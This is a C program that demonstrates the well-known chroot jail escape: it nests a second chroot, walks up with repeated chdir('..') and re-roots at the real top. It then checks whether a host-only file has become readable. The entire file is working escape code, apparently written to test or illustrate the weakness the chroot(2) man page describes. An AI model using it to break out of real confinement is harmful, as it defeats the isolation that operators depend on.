/*
 * escape.c: climb out of a chroot, the way chroot(2) warns about.
 *
 *   "This call does not change the current working directory, so that
 *    after the call '.' can be outside the tree rooted at '/'.  In
 *    particular, the superuser can escape from a 'chroot jail' by doing:
 *        mkdir foo; chroot foo; cd .."
 *
 * Give it the path of a file that exists only on the host.  It says
 * whether it can read that file before the climb and after it.
 * Build it static, so it runs in any root:  gcc -static -o escape escape.c
 */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void report(const char *when, const char *path)
{
    char line[200] = "";
    FILE *file = fopen(path, "r");

    if (file == NULL) {
        printf("%s: the host's file is out of reach\n", when);
        return;
    }
    if (fgets(line, sizeof line, file) == NULL)
        line[0] = '\0';
    line[strcspn(line, "\n")] = '\0';
    fclose(file);
    printf("%s: ESCAPED, the host's file says \"%s\"\n", when, line);
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s HOST-FILE\n", argv[0]);
        return 2;
    }
    report("before the climb", argv[1]);

    /* A new root below the working directory leaves '.' outside it ... */
    mkdir("climb", 0755);
    if (chroot("climb") != 0) {
        perror("chroot climb");
        return 1;
    }
    /* ... so '..' is no longer stopped at the root: walk up to the real top ... */
    for (int step = 0; step < 64; step++)
        chdir("..");
    /* ... and make wherever we arrived the root again. */
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    report("after the climb", argv[1]);
    return 0;
}
